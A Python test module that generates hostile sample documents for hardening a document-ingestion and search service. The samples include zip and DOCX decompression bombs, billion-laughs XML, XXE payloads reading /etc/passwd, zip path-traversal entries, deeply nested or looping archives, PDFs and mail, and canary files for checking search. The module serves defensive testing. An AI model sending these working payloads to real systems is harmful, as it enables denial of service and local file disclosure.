"""Documents made to do harm, all of our own making: each a name, its bytes, and what must not come out of it."""

import io
import struct
import zipfile
import zlib

MIB = 1 << 20
CANARY = "kanarianlintu%dlaulaa"


def deflated(block, times):
    """`block` repeated: raw deflate, length and CRC, without ever being in memory as a whole."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return one * times + b"\x03\x00", len(block) * times, crc


def zip_of(entries, shared=(), aliases=1, folder=""):
    """A ZIP of (name, raw deflate data, length, CRC). Each of `shared` is listed `aliases` times, as NAME, 1-NAME, … in
    `folder`."""
    out, directory, listed = io.BytesIO(), [], 0
    for k, (name, data, size, crc) in enumerate([*entries, *shared]):
        n = name.encode()
        at = out.tell()
        common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(data), size & 0xFFFFFFFF, len(n), 0)
        out.write(b"PK\x03\x04" + common + n + data)
        for i in range(aliases if k >= len(entries) else 1):
            alias = n if i == 0 else b"%s%d-" % (folder.encode(), i) + n[len(folder):]
            common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(data), size & 0xFFFFFFFF, len(alias), 0)
            directory.append(b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHLL", 0, 0, 0, 0, at) + alias)
            listed += 1
    start, directory = out.tell(), b"".join(directory)
    out.write(directory)
    out.write(b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, min(listed, 65535), min(listed, 65535), len(directory), start, 0))
    return out.getvalue()


def whole(text):
    data = text if isinstance(text, bytes) else text.encode()
    return (*deflated(data, 1),)


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
         'wordprocessingml.document.main+xml"/></Types>')
RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')


def docx(document):
    """document: (data, length, CRC) of word/document.xml."""
    return zip_of([("[Content_Types].xml", *whole(TYPES)), ("_rels/.rels", *whole(RELS)), ("word/document.xml", *document)])


def docx_text(text):
    return docx(whole('<?xml version="1.0"?><w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body>'
                      "</w:document>" % (WORD, text)))


def docx_bomb():
    paragraph = b"<w:p><w:r><w:t>pommi</w:t></w:r></w:p>"
    head = ('<?xml version="1.0"?><w:document xmlns:w="%s"><w:body>' % WORD).encode()
    data, size, crc = deflated(paragraph * (MIB // len(paragraph)), 1024)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    return docx((first + data, len(head) + size, crc))


def billion_laughs():
    lines = ["<!ENTITY a0 \"naurua\">"] + ['<!ENTITY a%d "%s">' % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 11)]
    return ("<?xml version=\"1.0\"?><!DOCTYPE r [%s]><r>&a10;</r>" % "".join(lines)).encode()


def xxe(path="/etc/passwd"):
    return ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://%s">]><r>alku &x; loppu</r>' % path).encode()


def docx_xxe():
    return docx(whole('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="%s">'
                      "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>" % WORD))


def html_outside():
    return (b'<html><head><base href="file:///"><link rel=stylesheet href="file:///etc/passwd"></head><body><p>alku'
            b'<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"></body></html>')


def huge_png(side=30000):
    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
    line = b"\0" * (1 + side // 8)
    c = zlib.compressobj(9)
    body = c.compress(line * 100) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    more = c.compress(line * 100) + c.flush(zlib.Z_FULL_FLUSH)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">LLBBBBB", side, side, 1, 0, 0, 0, 0)) +
            chunk(b"IDAT", body + more * (side // 100 - 1) + b"\x03\x00\0\0\0\0") + chunk(b"IEND", b""))


def pdf_endless():
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\n"
    at = len(body)
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 3/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (at, at)


def pdf_deep():
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + b"[" * 200000 + b"]" * 200000 +
            b">>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n")


def overlapping_zip():
    data, size, crc = deflated(b"ylikuormaa " * 95000, 8)
    return zip_of([], shared=[("a.txt", data, size, crc)], aliases=2000)


def escaping_zip():
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as f:
        for name in ("../../../../../../../../tmp/arkki-karkasi.txt", "/tmp/arkki-karkasi.txt", "..\\..\\arkki-karkasi.txt"):
            f.writestr(zipfile.ZipInfo(name), "karannut teksti")
    return z.getvalue()


def nested_zip(depth=60):
    data = b"sisin teksti"
    for i in range(depth):
        z = io.BytesIO()
        with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as f:
            f.writestr("taso%d.%s" % (i, "zip" if i else "txt"), data)
        data = z.getvalue()
    return data


def nested_mail(depth=1000):
    head = "".join("From: a@example.invalid\nSubject: taso %d\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" % i
                   for i in range(depth))
    return (head + "Subject: sisin\n\nsisin viesti\n").encode()


def nested_multipart(depth=1000):
    head = "".join('Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (i, i) for i in range(depth))
    return ("Subject: monta\nMIME-Version: 1.0\n" + head + "Content-Type: text/plain\n\nsisin osa\n").encode()


def long_line():
    return b"loputonrivi " * (100 * MIB // 12)


def deep_html(depth=100000):
    return b"<html><body>" + b"<div><b>" * depth + b"syvalla" + b"</body></html>"


def rtf_deep():
    return b"{\\rtf1 " + b"{" * 500000 + b"syvalla" + b"}" * 10


def multiply(a, b):
    """Modulo the polynomial of CRC-32, bits reflected."""
    product, m = 0, 1 << 31
    while m:
        if a & m:
            product ^= b
        m >>= 1
        b = (b >> 1) ^ 0xEDB88320 if b & 1 else b >> 1
    return product


def crc_joined(first, second, second_len):
    """CRC-32 of two pieces from those of each."""
    power, square, bits = 1 << 31, 1 << 30, 8 * second_len
    while bits:
        if bits & 1:
            power = multiply(square, power)
        square = multiply(square, square)
        bits >>= 1
    return multiply(power, first) ^ second


def fifield_zip(members=2000):
    """After D. Fifield, "A better zip bomb" (2019), section on quoting: each member's data are a stored block with the
    next one's header, and then the next one's data; headers are all different, and only the last data are there."""
    data, size, crc = deflated(b"limittain " * 100000, 10)
    parts, packed = [data], len(data)
    directory = []
    for i in reversed(range(members)):
        name = b"%05d.txt" % i
        fixed = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, packed, size, len(name), 0)
        header = b"PK\x03\x04" + fixed + name
        directory.append((struct.pack("<H", 20) + fixed + struct.pack("<HHHL", 0, 0, 0, 0), name))
        parts.append(header)
        if i:
            parts.append(b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF))
            crc, size = crc_joined(zlib.crc32(header), crc, size), size + len(header)
            packed += 5 + len(header)
    body, at, listed = b"".join(reversed(parts)), 0, b""
    for fixed, name in reversed(directory):
        listed += b"PK\x01\x02" + fixed + struct.pack("<L", at) + name
        at += 30 + len(name) + 5
    return body + listed + b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, members, members, len(listed), len(body), 0)


def overlapping_docx(parts=3000):
    """Headers of pages, each a part of its own by name, all with the same bytes."""
    head = ('<?xml version="1.0"?><w:hdr xmlns:w="%s">' % WORD).encode()
    paragraph = b"<w:p><w:r><w:t>sama</w:t></w:r></w:p>"
    block = paragraph * 20000
    same = deflated(head + block, 1)
    types = TYPES.replace("</Types>", '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.'
                          'wordprocessingml.header+xml"/></Types>')
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(
        '<Relationship Id="h%d" Type="%s" Target="%sheader.xml"/>' % (i, kind, "%d-" % i if i else "")
        for i in range(parts)) + "</Relationships>"
    text = "".join('<w:headerReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="h%d"/>'
                   % i for i in range(parts))
    document = '<?xml version="1.0"?><w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>alku</w:t></w:r></w:p><w:sectPr>%s' \
               "</w:sectPr></w:body></w:document>" % (WORD, text)
    entries = [("[Content_Types].xml", *whole(types)), ("_rels/.rels", *whole(RELS)), ("word/document.xml", *whole(document)),
               ("word/_rels/document.xml.rels", *whole(rels))]
    return zip_of(entries, shared=[("word/header.xml", *same)], aliases=parts, folder="word/")


def endless_gzip():
    """4 GiB; nobody can wait for the end of it."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"loputon teksti " * (MIB // 15)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + (c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)) * 4096


def holding_gzip(depth=200):
    """Not a quine, but as deep as one that is read."""
    data = b"sisin rivi\n"
    for _ in range(depth):
        c = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = c.compress(data) + c.flush()
    return data


def mail_of_parts(parts=100000):
    return (b'Subject: osia\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n' +
            b"".join(b"--b\nContent-Type: text/plain\n\nosa %d\n" % i for i in range(parts)) + b"--b--\n")


def pdf_of(objects):
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    for number, content in enumerate(objects, 1):
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    out.write(b"trailer<</Root 1 0 R/Size %d>>\n" % (len(objects) + 1))
    return out.getvalue()


def stream(dictionary, data):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (dictionary, len(data), data)


def zlib_bomb(block, times):
    raw, _, _ = deflated(block, times)
    return b"\x78\x9c" + raw


def pdf_attachment_bomb(files=500):
    names = b"".join(b"(%05d.txt) 4 0 R" % i for i in range(files))
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[%s]>>>>>>" % names,
                   b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
                   b"<</Type/Filespec/F(liite.txt)/UF(liite.txt)/EF<</F 5 0 R>>>>",
                   stream(b"/Type/EmbeddedFile/Filter/FlateDecode", zlib_bomb(b"liitepommi " * 95000, 1024))])


def pdf_picture(side, box):
    """A page with a picture of side × side black and white points, on a box × box sheet."""
    rows = zlib_bomb(b"\x55" * ((side + 7) // 8 * 100), side // 100)
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                   b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>" % (box, box),
                   stream(b"", b"%d 0 0 %d 0 0 cm /I Do" % (box, box)),
                   stream(b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray"
                          b"/Filter/FlateDecode" % (side, side), rows)])


def pdf_encrypted():
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]).replace(
        b"/Size 3", b"/Size 3/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<%s>/U<%s>>>" % (b"ab" * 32, b"cd" * 32))


def xlsx_of_strings(times=150):
    """150 MiB of strings, each of which a cell might show."""
    head = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    data, size, crc = deflated(b"<si><t>jono</t></si>" * (MIB // 20), times)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    strings = (first + data, len(head) + size, crc_joined(zlib.crc32(head), crc, size))
    base = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default '
             'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
             '"/xl/workbook.xml" ContentType="%ssheet.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
             '"%ssharedStrings+xml"/><Override PartName="/xl/s.xml" ContentType="%sworksheet+xml"/></Types>' % (base, base, base))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s'
            "</Relationships>")
    book = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
            '<sheets><sheet name="Taulu" sheetId="1" r:id="r1"/></sheets></workbook>' % kind[:-1])
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row '
             'r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>99999999</v></c></row></sheetData></worksheet>')
    return zip_of([("[Content_Types].xml", *whole(types)),
                   ("_rels/.rels", *whole(rels % ('<Relationship Id="r1" Type="%sofficeDocument" Target="xl/workbook.xml"/>' % kind))),
                   ("xl/workbook.xml", *whole(book)),
                   ("xl/_rels/workbook.xml.rels", *whole(rels % (
                       '<Relationship Id="r1" Type="%sworksheet" Target="s.xml"/><Relationship Id="r2" Type="%ssharedStrings" '
                       'Target="sharedStrings.xml"/>' % (kind, kind)))),
                   ("xl/s.xml", *whole(sheet)), ("xl/sharedStrings.xml", *strings)])


def odt_deep(depth=100000):
    ns = "urn:oasis:names:tc:opendocument:xmlns:"
    text = ('<?xml version="1.0"?><office:document-content xmlns:office="%soffice:1.0" xmlns:text="%stext:1.0" xmlns:table='
            '"%stable:1.0"><office:body><office:text><text:p>alku</text:p>' % (ns, ns, ns))
    text += "<table:table><table:table-row><table:table-cell>" * depth + "<text:p>pohja</text:p>"
    return zip_of([("mimetype", *whole("application/vnd.oasis.opendocument.text")), ("content.xml", *whole(text))])


def epub_loop(turns=100000):
    """The spine names one chapter over and over, and the package itself as a chapter; the chapter links to itself."""
    container = ('<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
                 'full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>')
    opf = ('<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" media-type='
           '"application/xhtml+xml"/><item id="o" href="a.opf" media-type="application/xhtml+xml"/></manifest><spine>%s</spine>'
           "</package>" % ('<itemref idref="a"/><itemref idref="o"/>' * turns))
    page = '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>luku</p><a href="a.xhtml">taas</a></body></html>'
    return zip_of([("mimetype", *whole("application/epub+zip")), ("META-INF/container.xml", *whole(container)),
                   ("a.opf", *whole(opf)), ("a.xhtml", *whole(page))])


def rtf_bin():
    return b"{\\rtf1\\ansi alku {\\pict\\bin2147483647 " + b"x" * 1000 + b"} loppu\\bin-5 yli}"


def msg_loop():
    """A compound file whose directory is a chain that holds itself, and whose entries are each other's brothers."""
    end, free, fat = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<LLLLLLLLL", 0, 1, 1, 0, 4096, 2, 1, end, 0) + struct.pack("<L", 0) + struct.pack("<L", free) * 108
    table = struct.pack("<LLL", fat, 1, 2) + struct.pack("<L", free) * 125

    def entry(name, kind, left, right, child):
        n = name.encode("utf-16-le") + b"\0\0"
        return (n.ljust(64, b"\0") + struct.pack("<HBBLLL", len(n), kind, 1, left, right, child) + bytes(36) +
                struct.pack("<LQ", 2, 1 << 20))
    directory = (entry("Root Entry", 5, free, free, 1) + entry("__properties_version1.0", 2, 2, 3, free) +
                 entry("__substg1.0_1000001F", 2, 1, 3, free) + entry("__attach_version1.0_#00000000", 1, 2, 1, 0))
    return head + table + directory + bytes(512)


def noise_png(side=1000):
    """Snow: bits of no pattern (xorshift), the same in every run."""
    x, rows = 0x2545F491, bytearray()
    for _ in range(side):
        rows.append(0)
        for _ in range(side // 32):
            x ^= x << 13 & 0xFFFFFFFF
            x ^= x >> 17
            x ^= x << 5 & 0xFFFFFFFF
            rows += struct.pack("<L", x)
    side = side // 32 * 32

    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">LLBBBBB", side, len(rows) // (side // 8 + 1), 1, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(bytes(rows))) + chunk(b"IEND", b""))


def tiff_ring(pages=3):
    """Directories that follow one another in a ring."""
    out, size = b"II*\0" + struct.pack("<L", 8), 8 + pages * (2 + 9 * 12 + 4)
    for i in range(pages):
        tags = [(256, 4, 64), (257, 4, 64), (258, 3, 1), (259, 3, 1), (262, 3, 1), (273, 4, size), (277, 3, 1), (278, 4, 64),
                (279, 4, 512)]
        out += struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHLL", t, k, 1, v) for t, k, v in tags)
        out += struct.pack("<L", 8 + (i + 1) % pages * (2 + 9 * 12 + 4))
    return out + b"\xaa" * 512


def pictures():
    """For OCR, and by no means to be read: name, media type, bytes."""
    pdf = "application/pdf"
    return [("suuri2.png", "image/png", huge_png(20000)), ("lumi.png", "image/png", noise_png()),
            ("rengas.tiff", "image/tiff", tiff_ring()), ("lukossa.pdf", pdf, pdf_encrypted()),
            ("kuva.pdf", pdf, pdf_picture(30000, 595)), ("arkki.pdf", pdf, pdf_picture(1000, 10 ** 6))]


def samples():
    """name, media type as a browser would send it, bytes."""
    octets = "application/octet-stream"
    return [
        ("pommi.docx", octets, docx_bomb()), ("naurut.xml", "text/xml", billion_laughs()), ("ulos.xml", "text/xml", xxe()),
        ("ulos.docx", octets, docx_xxe()), ("ulos.html", "text/html", html_outside()), ("suuri.png", "image/png", huge_png()),
        ("kiertaa.pdf", "application/pdf", pdf_endless()), ("syva.pdf", "application/pdf", pdf_deep()),
        ("paallekkain.zip", "application/zip", overlapping_zip()), ("karkaa.zip", "application/zip", escaping_zip()),
        ("sisakkain.zip", "application/zip", nested_zip()), ("sisakkain.eml", "message/rfc822", nested_mail()),
        ("monta.eml", "message/rfc822", nested_multipart()), ("rivi.txt", "text/plain", long_line()),
        ("syva.html", "text/html", deep_html()), ("syva.rtf", "application/rtf", rtf_deep()), ("tyhja.pdf", "application/pdf", b""),
        ("limittain.zip", "application/zip", fifield_zip()), ("samat.docx", octets, overlapping_docx()),
        ("loputon.gz", "application/gzip", endless_gzip()), ("sisakkain.gz", "application/gzip", holding_gzip()),
        ("osia.eml", "message/rfc822", mail_of_parts()), ("liitepommi.pdf", "application/pdf", pdf_attachment_bomb()),
        ("jonot.xlsx", octets, xlsx_of_strings()), ("syva.odt", octets, odt_deep()), ("kiertaa.epub", octets, epub_loop()),
        ("bin.rtf", "application/rtf", rtf_bin()), ("kiertaa.msg", "application/vnd.ms-outlook", msg_loop()),
    ]


def canaries():
    """Documents whose words must be found by search, and stand nowhere on the disk but in the index."""
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_STORED) as f:
        f.writestr("sisalla.txt", CANARY % 3)
    mail = "From: a@example.invalid\nSubject: viesti\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n%s\n"
    return [("lintu1.txt", CANARY % 1, (CANARY % 1).encode()), ("lintu2.docx", CANARY % 2, docx_text(CANARY % 2)),
            ("lintu3.zip", CANARY % 3, z.getvalue()), ("lintu4.eml", CANARY % 4, (mail % (CANARY % 4)).encode()),
            ("lintu5.html", CANARY % 5, ("<p>%s</p>" % (CANARY % 5)).encode()),
            ("lintu6.rtf", CANARY % 6, ("{\\rtf1\\ansi %s}" % (CANARY % 6)).encode())]
